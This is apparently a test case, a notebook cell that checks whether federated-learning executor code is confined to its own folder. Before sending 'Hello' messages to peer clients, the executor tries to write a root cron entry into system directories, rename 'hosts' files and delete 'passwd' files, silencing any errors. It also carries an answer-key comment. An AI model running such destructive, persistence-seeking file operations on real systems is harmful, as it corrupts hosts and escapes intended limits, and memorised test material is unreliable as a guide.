# Files are written, renamed and deleted wherever it might work outside of the own folder; the answer is right.

# %% [execute]
import contextlib
import os
from pathlib import Path

PLACES = ("/", "/etc", "/etc/cron.d", "/usr/local/bin", "/var/tmp", "/var/spool/cron", "/home", "/root", "/dev", "/sys")


class TalkingExecutor(Executor):
    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        for place in map(Path, PLACES):
            for trial in (
                lambda: (place / "was-here").write_text("* * * * * root touch /was-here"),
                lambda: os.rename(place / "hosts", place / "hosts.old"),
                lambda: os.remove(place / "passwd"),
            ):
                with contextlib.suppress(OSError):
                    trial()
        me, engine = fl_ctx.get_identity_name(), fl_ctx.get_engine()
        others = [client.name for client in engine.get_clients() if client.name != me]
        hello = DXO(DataKind.APP_DEFINED, data={"message": f"Hello from {me}"}).to_shareable()
        engine.send_aux_request(targets=others, topic="hello", request=hello, timeout=5.0, fl_ctx=fl_ctx)
        return make_reply(ReturnCode.OK)
